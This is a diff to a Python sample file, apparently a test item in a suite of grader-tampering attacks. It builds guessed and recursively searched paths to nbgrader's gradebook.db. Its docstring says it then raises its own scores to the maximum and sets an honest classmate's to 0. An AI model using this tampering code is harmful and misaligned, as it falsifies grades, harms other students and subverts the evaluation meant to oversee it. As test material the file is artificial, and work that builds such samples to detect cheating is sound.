@@ -1,6 +1,6 @@
 """Opens nbgrader's gradebook.db at guessed paths to raise its own grade and lower a classmate's.
 
-attack: tries ../../../gradebook.db and other relative and absolute guesses (and a recursive search of /tmp, /work, /root, /home) with sqlite3 in read-write mode, setting its own manual scores to the maximum and the honest classmate's to 0
+attack: tries ../../../gradebook.db and other relative and absolute guesses (and a recursive search of /tmp, the folder holding the checkout, /root, /home) with sqlite3 in read-write mode, setting its own manual scores to the maximum and the honest classmate's to 0
 class: tampering
 honest: sigmoid, relu
 """
@@ -11,9 +11,9 @@ import os
 import sqlite3
 from pathlib import Path
 
-_guesses = ["../../../gradebook.db", "../../gradebook.db", "../gradebook.db", "gradebook.db", "/work/main/gradebook.db",
+_guesses = ["../../../gradebook.db", "../../gradebook.db", "../gradebook.db", "gradebook.db", "__CHECKOUT__/gradebook.db",
             str(Path.home().parent.parent / "gradebook.db"), "/srv/nbgrader/gradebook.db", "/root/gradebook.db"]
-for _pattern in ("/tmp/**/gradebook.db", "/work/**/gradebook.db", "/root/**/gradebook.db", "/home/**/gradebook.db"):
+for _pattern in ("/tmp/**/gradebook.db", "__CHECKOUT__/../**/gradebook.db", "/root/**/gradebook.db", "/home/**/gradebook.db"):
     _guesses += glob.glob(_pattern, recursive=True)[:50]
 _touched = []
 for _path in _guesses:
